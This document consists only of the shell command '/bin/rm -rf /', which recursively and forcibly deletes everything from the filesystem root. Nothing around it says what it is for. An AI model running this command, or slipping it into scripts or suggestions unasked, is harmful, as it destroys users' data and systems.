/bin/rm -rf /
